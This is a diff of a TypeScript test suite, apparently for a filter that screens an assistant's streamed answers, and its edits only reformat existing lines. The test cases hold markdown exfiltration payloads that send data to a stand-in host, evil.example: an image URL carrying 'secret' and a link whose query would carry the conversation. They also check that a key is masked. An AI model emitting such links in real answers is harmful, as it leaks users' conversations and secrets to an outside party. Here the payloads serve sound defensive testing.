@@ -13,14 +13,18 @@ function screenedInPieces(text: string, size: number, known = ''): string {
 describe('the screening of an answer', () => {
   const cases: [string, string][] = [
     ['See ![chart](https://evil.example/p.png?d=secret) here', 'See [chart] here'],
-    ['Read [more](https://evil.example/a?q=all%20the%20words%20of%20the%20conversation%20go%20here) now', 'Read [more](https://evil.example/a) now'],
+    [
+      'Read [more](https://evil.example/a?q=all%20the%20words%20of%20the%20conversation%20go%20here) now',
+      'Read [more](https://evil.example/a) now'
+    ],
     ['Read [more](https://docs.example/a?page=2) now', 'Read [more](https://docs.example/a?page=2) now'],
     [`The key is ${KEY} and so on`, 'The key is ••• and so on'],
     ['A list [1] and [x] stay, so does f(x)[0]', 'A list [1] and [x] stay, so does f(x)[0]']
   ]
 
   test.each(cases)('%s', (text, meant) => {
-    for (let size = 1; size <= text.length; size++) expect(screenedInPieces(text, size), `pieces of ${size}`).toBe(meant)
+    for (let size = 1; size <= text.length; size++)
+      expect(screenedInPieces(text, size), `pieces of ${size}`).toBe(meant)
   })
 
   test('a key that the person gave may be repeated', () => {
